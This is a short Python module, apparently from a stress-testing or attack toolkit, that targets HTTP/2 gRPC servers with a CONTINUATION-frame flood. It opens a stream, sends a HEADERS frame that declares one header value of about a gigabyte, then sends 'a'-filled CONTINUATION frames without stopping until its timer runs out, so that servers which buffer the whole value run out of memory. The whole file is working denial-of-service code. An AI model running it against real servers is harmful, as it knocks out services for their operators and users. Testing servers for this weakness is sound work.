"""One header whose value never ends, in CONTINUATION frames: a decoder that waits for the whole value keeps it."""

from . import grpc_wire, http2

VALUE_BYTES = 1 << 30
FRAMES_PER_WRITE = 16


def turn(client, until):
    stream = client.take_stream()
    begin = (grpc_wire.request_headers(grpc_wire.PUBLISH) + b"\0" + http2.integer(1, 7) + b"x" +
             http2.integer(VALUE_BYTES, 7))
    client.send(http2.frame(http2.HEADERS, 0, stream, begin), until)
    flood = http2.frame(http2.CONTINUATION, 0, stream, b"a" * http2.FRAME_BYTES_MAX) * FRAMES_PER_WRITE
    while client.send(flood, until):
        pass


def run(address, seconds):
    return grpc_wire.repeat(address, seconds, turn)
